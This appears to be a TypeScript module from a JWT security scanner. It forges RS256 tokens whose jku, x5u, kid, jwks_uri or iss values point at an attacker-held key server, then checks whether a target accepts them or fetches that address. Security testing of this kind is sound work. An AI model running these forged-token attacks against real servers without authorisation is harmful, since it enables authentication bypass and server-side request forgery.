import { forge } from '../forging/forge';
import type { Attempt } from '../Attempt';
import type { RawAnswer } from '../http/RawAnswer';
import { isSafe } from '../RouteRequests';
import type { AttackCategory } from '../Surroundings';

/**
 * Tokens that name an address of the attack, from which a careless server fetches the key or the metadata of the issuer
 * (RFC 8725 section 3.10). The fetch alone is a finding, since it lets anybody choose what the server requests.
 */
export const remoteKeys: AttackCategory = ({ guarded, requests, main, keyServer }) => {
  const route = guarded.find(one => isSafe(one) && one.token !== 'refresh') ?? guarded[0];
  const held = main.access;
  if (!route || !held || !keyServer) return [];
  const claims = held.claims ?? { sub: 'admin' };
  return places.map(([name, change]): Attempt => {
    const address = keyServer.addressOf(name);
    const { header = {}, iss } = change(address);
    const token = forge(iss === undefined ? claims : { ...claims, iss }, {
      header: { typ: 'JWT', kid: 'attack', ...header },
      key: keyServer.privateKey,
      algorithm: 'RS256',
    });
    return {
      row: 'embedded-key',
      variant: `${name}, an address`,
      route,
      request: requests.withToken(route, token, held),
      judgement: (answer: RawAnswer) => answer.status < 300 || keyServer.wasAsked(name),
      isInvalidToken: true,
    };
  });
};

interface Change {
  readonly header?: Readonly<Record<string, unknown>>;
  readonly iss?: string;
}

const places: readonly (readonly [name: string, change: (address: string) => Change])[] = [
  ['jku', address => ({ header: { jku: `${address}/jwks.json` } })],
  ['x5u', address => ({ header: { x5u: `${address}/certificate.pem` } })],
  ['kid', address => ({ header: { kid: `${address}/jwks.json` } })],
  ['jwks_uri', address => ({ header: { jwks_uri: `${address}/jwks.json` } })],
  ['iss', address => ({ iss: address })],
];
